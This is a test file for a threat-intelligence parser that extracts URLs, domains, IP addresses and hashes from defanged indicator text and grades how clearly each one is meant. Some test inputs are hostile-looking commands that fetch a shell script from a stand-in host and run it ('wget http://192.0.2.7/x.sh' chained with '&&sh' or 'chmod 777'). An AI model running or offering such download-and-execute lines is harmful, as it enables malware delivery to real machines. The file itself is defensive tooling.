import { expect, test } from 'vitest';
import { EVIDENCE } from '../../utils/ioc/candidate.ts';
import { findCandidates } from '../../utils/ioc/find-candidates.ts';

const SHA256 = '7f83b1657ff1fc53b92dc18148a1d65dfc2d4b1fa3d677284addd200126d9069';

/** `key text` of every candidate, in order; `text` is the stretch that a reader sees. */
const read = (text: string) =>
  findCandidates(text).map(({ key, start, end }) => `${key} ${text.slice(start, end)}`);

const evidenceOf = (text: string, key: string) =>
  findCandidates(text).find((candidate) => candidate.key === key)?.evidence;

test('a URL, what its path holds, its host and the parents each stand where they are read', () => {
  expect(read(`at hxxps[:]//cdn.www.evil[.]example/f/${SHA256}.`)).toEqual([
    `url:https://cdn.www.evil.example/f/${SHA256} hxxps[:]//cdn.www.evil[.]example/f/${SHA256}`,
    'domain:cdn.www.evil.example cdn.www.evil[.]example',
    'domain:www.evil.example www.evil[.]example',
    'domain:evil.example evil[.]example',
    `sha256:${SHA256} ${SHA256}`,
  ]);
});

test('a URL in a URL, percent-encoded or not, is one of its own', () => {
  expect(read('http://a.example/?u=http%3A%2F%2Fb.example%2Fx&v=https://c.example/y')).toEqual([
    'url:http://a.example/?u=http%3A%2F%2Fb.example%2Fx&v=https://c.example/y http://a.example/?u=http%3A%2F%2Fb.example%2Fx&v=https://c.example/y',
    'domain:a.example a.example',
    'url:http://b.example/x&v=https://c.example/y http%3A%2F%2Fb.example%2Fx&v=https://c.example/y',
    'domain:b.example b.example',
    'url:https://c.example/y https://c.example/y',
    'domain:c.example c.example',
  ]);
});

test('a URL before what looks like the next field of a line is offered with it too', () => {
  expect(read('https://a.example/x,2026-09-17T10:00:00Z,b')).toEqual([
    'url:https://a.example/x,2026-09-17T10:00:00Z,b https://a.example/x,2026-09-17T10:00:00Z,b',
    'url:https://a.example/x https://a.example/x',
    'domain:a.example a.example',
  ]);
  expect(evidenceOf('https://a.example/x,2026-09-17T10:00:00Z,b', 'url:https://a.example/x')).toBe(
    EVIDENCE.marked,
  );
});

test('a defanged URL in the query of another: both ways to write the whole are offered', () => {
  const text = 'hxxps://a.example/?u=hxxps://b.example/x';
  expect(evidenceOf(text, 'url:https://a.example/?u=https://b.example/x')).toBe(EVIDENCE.marked);
  expect(evidenceOf(text, 'url:https://a.example/?u=hxxps://b.example/x')).toBe(EVIDENCE.implied);
});

test('a URL with a fragment is offered without it too', () => {
  expect(read('http://a.example/x#y')).toEqual([
    'url:http://a.example/x#y http://a.example/x#y',
    'url:http://a.example/x http://a.example/x',
    'domain:a.example a.example',
  ]);
});

test.each([';chmod 777 x.sh', '&&sh', '&amp;&amp;sh', ';sh&&rm', ',url,Emotet'])(
  'a URL before %s ends there too',
  (command) => {
    const keys = read(`cd /tmp;wget http://192.0.2.7/x.sh${command}`);
    expect(keys).toContain('url:http://192.0.2.7/x.sh http://192.0.2.7/x.sh');
    expect(read(`wget 192.0.2.7/x.sh${command}`)).toContain('url:http://192.0.2.7/x.sh 192.0.2.7/x.sh');
  },
);

test('credentials end at no command', () => {
  expect(read('ftp://u&&p@a.example/x')).toEqual([
    'url:ftp://u&&p@a.example/x ftp://u&&p@a.example/x',
    'domain:a.example a.example',
  ]);
});

test('a host with a path or a port but no scheme may have had either', () => {
  expect(read('evil[.]example/x')).toEqual([
    'url:http://evil.example/x evil[.]example/x',
    'url:https://evil.example/x evil[.]example/x',
    'domain:evil.example evil[.]example',
  ]);
  expect(read('192.0.2.7:8080')).toEqual([
    'url:http://192.0.2.7:8080/ 192.0.2.7:8080',
    'url:https://192.0.2.7:8080/ 192.0.2.7:8080',
    'ipv4:192.0.2.7 192.0.2.7',
  ]);
});

test('an address mapped into IPv6 is both', () => {
  expect(read('::ffff:192.0.2.7')).toEqual([
    'ipv6:::ffff:192.0.2.7 ::ffff:192.0.2.7',
    'ipv4:192.0.2.7 192.0.2.7',
  ]);
});

test('of two readings of a doubtful text both are offered', () => {
  expect(read('evil.example . Then')).toContain('domain:evil.example evil.example');
  expect(read('evil。рф')).toEqual(['domain:evil.xn--p1ai evil。рф']);
  expect(read('evil.example.The end')).toContain('domain:evil.example evil.example');
  expect(read('stix_evil.example')).toEqual([
    'domain:stix_evil.example stix_evil.example',
    'domain:evil.example evil.example',
  ]);
  expect(read('http://evil.example/x下载')).toContain('url:http://evil.example/x http://evil.example/x');
});

test('parents are capped, the ones nearest to the registered name kept', () => {
  const deep = `${'a.'.repeat(20)}evil.example`;
  const parents = read(deep);
  expect(parents).toHaveLength(9);
  expect(parents).toContain('domain:evil.example evil.example');
});

test('an overlong URL is left out, its host is not', () => {
  const keys = read(`http://evil.example/${'x'.repeat(9000)}`);
  expect(keys).toEqual(['domain:evil.example evil.example']);
});

test('sentences, decimals, times, versions and file names are no candidates at all', () => {
  const text =
    'It ends. It costs 3.50 or 1.000.000, at 12:30:45 and 23:59. See e.g. setup.exe, a.b(c) and U.S. law; std::string...';
  expect(read(text)).toEqual([]);
});

test('nothing is found in nothing', () => {
  for (const text of ['', '.', '..', '::', 'http://', 'http://:', '[.]', ' dot ', 'a.b'])
    expect(read(text)).toEqual([]);
});

test.each([
  ['evil[.]example', 'domain:evil.example', EVIDENCE.marked],
  ['http://evil.example/', 'domain:evil.example', EVIDENCE.marked],
  ['evil.example', 'domain:evil.example', EVIDENCE.plain],
  ['EVIL.EXAMPLE', 'domain:evil.example', EVIDENCE.plain],
  ['Evil.example', 'domain:evil.example', EVIDENCE.plain],
  ['EvilCorp.example', 'domain:evilcorp.example', EVIDENCE.doubtful],
  ['Evil.Example', 'domain:evil.example', EVIDENCE.cased],
  ['evil.example()', 'domain:evil.example', EVIDENCE.doubtful],
  ['evil dot example', 'domain:evil.example', EVIDENCE.doubtful],
  ['evil。example', 'domain:evil.example', EVIDENCE.plain],
  ['EDR。Example', 'domain:edr.example', EVIDENCE.doubtful],
  ['evil[。]Example', 'domain:evil.example', EVIDENCE.marked],
  ['evil。рф', 'domain:evil.xn--p1ai', EVIDENCE.implied],
  ['me@evil.example', 'domain:evil.example', EVIDENCE.implied],
  ['me[@]evil[.]example', 'domain:evil.example', EVIDENCE.plain],
  ['me[@]evil.example', 'domain:evil.example', EVIDENCE.plain],
  ['www.evil.example', 'domain:evil.example', EVIDENCE.implied],
  ['Win32/Evil.example', 'domain:evil.example', EVIDENCE.implied],
  ['C:\\dir\\evil.example', 'domain:evil.example', EVIDENCE.implied],
  ['\\\\evil.example\\share', 'domain:evil.example', EVIDENCE.plain],
  ['192.0.2.7', 'ipv4:192.0.2.7', EVIDENCE.plain],
  ['version 1.2.3.4', 'ipv4:1.2.3.4', EVIDENCE.doubtful],
  ['v1.2.3.4', 'ipv4:1.2.3.4', EVIDENCE.doubtful],
  ['http://evil.example/x.sh;sh', 'url:http://evil.example/x.sh', EVIDENCE.implied],
  ['to 192.0.2.7.Then it', 'ipv4:192.0.2.7', EVIDENCE.implied],
  ['192.0.2[.]7.Then', 'ipv4:192.0.2.7', EVIDENCE.implied],
  ['http://192.0.2.7.Then', 'ipv4:192.0.2.7', EVIDENCE.implied],
  ['http://192.0.2.7.isp.example/', 'ipv4:192.0.2.7', EVIDENCE.implied],
  ['1.2.3.4.exe', 'ipv4:1.2.3.4', EVIDENCE.doubtful],
  ['192.0.2.7 . Then', 'ipv4:192.0.2.7', EVIDENCE.plain],
  ['1.2.3.4.5', 'ipv4:1.2.3.4', undefined],
  ['1.2.3.4.5.rpm', 'ipv4:1.2.3.4', undefined],
  ['192.0.2.0/24', 'ipv4:192.0.2.0', EVIDENCE.implied],
  ['192.0.2.7/24', 'ipv4:192.0.2.7', EVIDENCE.plain],
  [`0x${SHA256}`, `sha256:${SHA256}`, EVIDENCE.implied],
] as const)('%s says how clearly it means an indicator', (text, key, evidence) => {
  expect(evidenceOf(text, key)).toBe(evidence);
});

const MD5 = '9e107d9d372bb6826bd81d3542a419d6';
const readPieces = (...pieces: string[]) => {
  const text = pieces.join('');
  const seams = pieces.slice(0, -1).map((_, index) => pieces.slice(0, index + 1).join('').length);
  return findCandidates(text, seams).map(({ key, start, end }) => `${key} ${text.slice(start, end)}`);
};

test('pieces of a page are read as one, and for themselves where a word touches them', () => {
  expect(readPieces('see ', 'https://x[.]example/', 'with')).toContain(
    'url:https://x.example/ https://x[.]example/',
  );
  expect(readPieces('see ', 'https://x[.]example/', 'with')).toContain(
    'url:https://x.example/with https://x[.]example/with',
  );
  expect(readPieces('and', 'evil.example', 'is')).toContain('domain:evil.example evil.example');
  expect(readPieces('the file ', MD5, 'and others')).toEqual([`md5:${MD5} ${MD5}`]);
  expect(readPieces('hxxp://', 'evil', '[.]example')).toContain(
    'url:http://evil.example/ hxxp://evil[.]example',
  );
  // Animated text: every letter is a piece.
  expect(readPieces(...'evil.example/gate'.split(''))).toEqual(read('evil.example/gate'));
});

test('of many pieces each is read alone, and all but the first and the last', () => {
  // A line's number before coloured source, where digits and letters are of different colours.
  expect(readPieces('49', ...MD5.split(/(?<=\d)(?=\D)|(?<=\D)(?=\d)/))).toEqual([`md5:${MD5} ${MD5}`]);
  expect(readPieces('80', 'bind', '-', 'or', '-', 'call', '-', 'evil', '.', 'example')).toContain(
    'domain:bind-or-call-evil.example bind-or-call-evil.example',
  );
  expect(readPieces(...MD5.split(/(?<=\d)(?=\D)|(?<=\D)(?=\d)/), 'with')).toEqual([`md5:${MD5} ${MD5}`]);
  // Labels that nothing but a margin parts.
  const addresses = Array.from({ length: 12 }, (_, index) => `203.0.113.${index + 100}`);
  expect(readPieces(...addresses)).toEqual(addresses.map((address) => `ipv4:${address} ${address}`));
});

test('a word that goes on beyond reach is not cut into another', () => {
  const long = `hxxps://x[.]example/${'a'.repeat(900)}`;
  expect(readPieces(long, 'with')).toContain(`url:https://x.example/${'a'.repeat(900)} ${long}`);
  const tooLong = `hxxps://x[.]example/${'a'.repeat(1200)}`;
  const urls = readPieces('URL', tooLong).filter((found) => found.startsWith('url:'));
  expect(urls).toEqual([`url:https://x.example/${'a'.repeat(1200)} ${tooLong}`]);
});
